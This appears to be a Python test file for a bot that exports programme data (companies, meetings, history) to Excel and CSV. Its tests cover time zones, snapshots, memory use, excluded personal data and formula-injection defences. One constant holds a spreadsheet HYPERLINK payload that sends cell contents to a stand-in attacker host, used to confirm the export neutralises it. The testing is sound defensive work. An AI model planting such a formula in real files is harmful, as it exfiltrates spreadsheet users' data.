"""Tables that are taken along: opened again, as a spreadsheet opens them."""

import csv
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import Column, MetaData, Select, Table, Text, select

from bot.exports.harmless import is_formula, readable
from bot.exports.tables import export
from programme.broadcasts.audiences import Reached
from programme.broadcasts.broadcasts import Broadcast, BroadcastId
from programme.companies.companies import Company, CompanyName
from programme.companies.history import NOBODY, Happened
from programme.companies.register import RegisterEntry
from programme.companies.road import Stage
from programme.companies.selections import Selection
from programme.leading.exports import Export, Format
from programme.leading.exports import Table as Exported
from programme.letters.letter_kinds import LetterKind
from programme.letters.letters import Letter
from programme.meetings.meetings import Attendee, Booking, MeetingId
from programme.meetings.outcomes import Outcome, Recorded
from programme.meetings.preparations import Preparation
from programme.people import Language, PersonId
from programme.plan import Kind, Theme
from programme.registrations import Registered
from storage.engine.columns import Special
from storage.engine.database import Database, open_database
from storage.leading.export_statements import STATEMENTS
from storage.unit import Unit
from tests.databases import new_id
from tests.programmes import PROGRAMME
from tests.storage.season import KARI, LISE
from texts.say import Words
from texts.voice import voice_of

NOW = datetime(2027, 2, 22, 9, tzinfo=UTC)
NB = voice_of(Language.NB, PROGRAMME.zone)
THEME = Theme("rekruttering", "Rekruttering", "Rekruttering", "Recruitment")
ATTACK = '=HYPERLINK("http://attacker.example/?"&A1;"trykk")'
NUMBER = "100000083"


@pytest.fixture
def database(database_url: str) -> Iterator[Database]:
    """Each sort, at a moment that stands still where the database has no clock of its own."""
    programme = replace(PROGRAMME, themes=(THEME,))
    database = open_database(database_url, programme, lambda: NOW, new_id)
    database.migrate()
    yield database
    database.close()


def one_company(unit: Unit, name: str = "Prøveost SA") -> Company:
    """A company with everything that can be known of one."""
    for person in (KARI, LISE):
        unit.people.put(replace(person, email=f"{person.host or 'kari'}@company.example"))
    company = replace(unit.companies.named(CompanyName(name, NUMBER)), stage=Stage.CONFIRMED, host="h1")
    unit.companies.put(replace(company, decides_on=date(2027, 3, 4)))
    unit.companies.accept(company.id, KARI.id)
    unit.register.put(
        RegisterEntry(
            NUMBER,
            name,
            municipality="Stavanger",
            municipality_number="1103",
            industry="Produksjon av ost",
            industry_code="10.510",
            employees=42,
        )
    )
    unit.places.fit(40)
    assert unit.places.take(company.id, unit.now)
    start = unit.meetings.free(Kind.PRESENTATION, unit.now)[0].start
    attendees = (Attendee("Kari Prøve", "kari@company.example"), Attendee("-ola"))
    unit.meetings.book(
        Booking(MeetingId("meeting"), Kind.PRESENTATION, company.id, KARI.id, Language.NN, attendees),
        start,
        unit.now,
    )
    unit.outcomes.add(Recorded(MeetingId("meeting"), Outcome.INTERESTED, LISE.id, NOW, "Takk", ATTACK))
    unit.preparations.put(
        Preparation(company.id, KARI.id, NOW, "Kari\nOla", THEME.id, "Flere lærlinger", wishes="Ikke X")
    )
    unit.registrations.replace(
        company.id, [Registered(company.id, "+47 22 33 44 55", "kari@company.example", KARI.id, NOW)]
    )
    hello = Broadcast(
        BroadcastId("hello"), LISE.id, NOW, NOW, Selection(), {Language.EN: "Hi"}, otherwise=Language.EN
    )
    unit.broadcasts.add(hello, [Reached(KARI.id, KARI.name, Language.NB, company.id, name)])
    key = LetterKind.BROADCAST.key(hello.id, KARI.id)
    unit.outbox.plan([Letter(key, KARI.id, LetterKind.BROADCAST, hello.id, NOW, NOW + timedelta(days=1))])
    unit.history.add(Happened(company.id, NOW, LISE.id, "moved-in-line-3", ATTACK))
    unit.history.add(Happened(company.id, NOW, NOBODY, "decline", "money"))
    return company


def local(*parts: int) -> datetime:
    """As a spreadsheet has it: without a zone."""
    return datetime(*parts)  # type: ignore[arg-type]  # noqa: DTZ001


def by_heading(sheet: Any) -> list[dict[str, Any]]:
    headings, *rows = sheet.iter_rows()
    return [{head.value: cell for head, cell in zip(headings, row, strict=True)} for row in rows]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, delimiter=";"))


def test_a_workbook_has_a_sheet_for_each_table_with_real_types(database: Database, tmp_path: Path):
    with database.transaction() as unit:
        one_company(unit)
    written = export(database, Export(tuple(Exported), Format.EXCEL), tmp_path, NB)

    assert {one.path for one in written} == {tmp_path / "eksport.xlsx"}
    assert {one.table: one.rows for one in written} == {
        Exported.COMPANIES: 1,
        Exported.GROUPS: 0,
        Exported.PEOPLE: 2,
        Exported.MEETINGS: 1,
        Exported.PREPARATION: 1,
        Exported.KICKOFF: 1,
        Exported.BROADCASTS: 1,
        Exported.HISTORY: 2,
        Exported.SEASONS: 0,
    }
    book = load_workbook(tmp_path / "eksport.xlsx")
    assert book.sheetnames == [NB.speak(name) for name in map(_title, Exported)]
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert all(cell.font.b for cell in sheet[1])
        widths = sheet.column_dimensions
        assert all(widths[cell.column_letter].width > len(cell.value) for cell in sheet[1])
    [company] = by_heading(book["Bedrifter"])
    values = {heading: cell.value for heading, cell in company.items()}
    assert values == {
        "Bedrift": "Prøveost SA",
        "Organisasjonsnummer": NUMBER,
        "Steg": "Har plass",
        "Plass": 1,
        "Nr. i køen": None,
        "Bestemmer seg": local(2027, 3, 4),
        "Trekker seg fra": None,
        "Følges opp av": "Host h1",
        "Kommune": "Stavanger",
        "Fylke": "Rogaland",
        "Bransje": "Meieri",
        "Næring": "Produksjon av ost",
        "Ansatte": 42,
        "Ringt uten svar": None,
        "Vil ikke kontaktes": "nei",
    }
    assert company["Bestemmer seg"].number_format == "dd.mm.yyyy"
    [sent] = by_heading(book["Fellesmeldinger"])
    assert (sent["Melding"].value, sent["Hva som skjedde med den"].value) == ("Hi", "Venter")
    [prepared] = by_heading(book["Forberedelser"])
    assert (prepared["Tema"].value, prepared["Forberedt (prosent)"].value) == ("Rekruttering", 75)


def _title(table: Exported) -> Any:
    return Words(f"table-{table}")


def test_times_are_the_programmes_own_since_a_spreadsheet_has_no_zone(database: Database, tmp_path: Path):
    with database.transaction() as unit:
        company = one_company(unit)
        unit.history.add(Happened(company.id, datetime(2027, 7, 1, 22, 30, tzinfo=UTC), NOBODY, "start"))
    export(database, Export((Exported.HISTORY,), Format.EXCEL), tmp_path, NB)
    export(database, Export((Exported.HISTORY,), Format.CSV), tmp_path, NB)

    happened = by_heading(load_workbook(tmp_path / "eksport.xlsx")["Historikk"])
    assert [one["Når"].value for one in happened[::2]] == [
        local(2027, 2, 22, 10),
        local(2027, 7, 2, 0, 30),
    ]
    assert happened[0]["Når"].number_format == "dd.mm.yyyy hh:mm"
    assert read_csv(tmp_path / "historikk.csv")[2]["Når"] == "2027-07-02 00:30"
    assert [one["Hva"].value for one in happened[:2]] == ["flyttet i køen", "takket nei for nå"]
    assert happened[1]["Hvorfor"].value == "Økonomien"


def test_what_begins_as_a_formula_stays_the_text_that_was_written(database: Database, tmp_path: Path):
    with database.transaction() as unit:
        one_company(unit)
    export(database, Export(tuple(Exported), Format.EXCEL), tmp_path, NB)

    book = load_workbook(tmp_path / "eksport.xlsx")
    note = by_heading(book["Møter"])[0]["Internt notat"]
    phone = by_heading(book["Påmeldte til kick-off"])[0]["Navn"]
    for cell, text in ((note, ATTACK), (phone, "+47 22 33 44 55")):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)


def test_csv_opens_in_norwegian_excel_and_runs_nothing(database: Database, tmp_path: Path):
    with database.transaction() as unit:
        one_company(unit, 'Ærlig; «Prøve» & "Øl" AS')
    export(database, Export(tuple(Exported), Format.CSV), tmp_path, NB)

    raw = (tmp_path / "bedrifter.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfBedrift;Organisasjonsnummer;")
    assert read_csv(tmp_path / "bedrifter.csv")[0]["Bedrift"] == 'Ærlig; «Prøve» & "Øl" AS'
    assert read_csv(tmp_path / "bedrifter.csv")[0]["Bestemmer seg"] == "2027-03-04"
    assert read_csv(tmp_path / "møter.csv")[0]["Internt notat"] == f"'{ATTACK}"
    assert read_csv(tmp_path / "påmeldte-til-kick-off.csv")[0]["Navn"] == "'+47 22 33 44 55"
    assert read_csv(tmp_path / "forberedelser.csv")[0]["Hvem blir med"] == "Kari\nOla"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@sum", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＠sum"])
def test_formulas_are_seen(text: str):
    assert is_formula(text)


@pytest.mark.parametrize("text", ["", "1-1", "a=1", "kari@company.example", "Prøve - Test", "'=1"])
def test_other_texts_are_left_alone(text: str):
    assert not is_formula(text)


def test_what_no_file_can_hold_is_left_out():
    assert readable("a\x00b\x0bc\r\nd\te\ufffe") == "abc\nd\te"


def test_an_export_shows_one_moment_and_nobody_waits_for_it(database: Database):
    with database.transaction() as unit:
        one_company(unit)
    with database.snapshot() as snapshot:
        companies = snapshot.rows(Exported.COMPANIES)
        assert next(companies)
        with database.transaction() as unit:  # waits for nothing, and isn't seen
            unit.companies.named(CompanyName("Kom senere AS"))
            unit.people.put(replace(KARI, id=PersonId("tenant/late"), name="Sen Prøve"))
        assert list(companies) == []
        assert len(list(snapshot.rows(Exported.PEOPLE))) == 2
    with database.snapshot() as snapshot:
        assert len(list(snapshot.rows(Exported.COMPANIES))) == 2


def special(statement: Select[Any]) -> list[str]:
    """The columns of a special category that it reads."""
    read = {column for one in statement.selected_columns for column in one.base_columns}
    return [one.name for one in read if isinstance(one, Column) and isinstance(one.info["personal"], Special)]


def test_no_column_of_a_special_category_is_exported():
    union = Table("union", MetaData(), Column("member", Text, info={"personal": Special("who", "why", 1)}))
    assert special(select(union)) == ["member"]
    assert {table: special(statement) for table, statement in STATEMENTS.items()} == {
        table: [] for table in Exported
    }


def test_memory_does_not_grow_with_the_rows(tmp_path: Path):
    database = open_database(f"sqlite:///{tmp_path}/many.db", PROGRAMME, lambda: NOW, new_id)
    database.migrate()
    peaks = []
    for more in (1_000, 4_000):
        with database.transaction() as unit:
            company = unit.companies.named(CompanyName("Prøveost SA"))
            for number in range(more):
                happened = Happened(
                    company.id, NOW + timedelta(minutes=number), NOBODY, "consider", "x" * 200
                )
                unit.history.add(happened)
        for how in Format:
            tracemalloc.start()
            [written] = export(database, Export((Exported.HISTORY,), how), tmp_path / how, NB)
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
    database.close()
    assert written.rows == 5_000
    assert peaks[2] < peaks[0] + 300_000
    assert peaks[3] < peaks[1] + 300_000
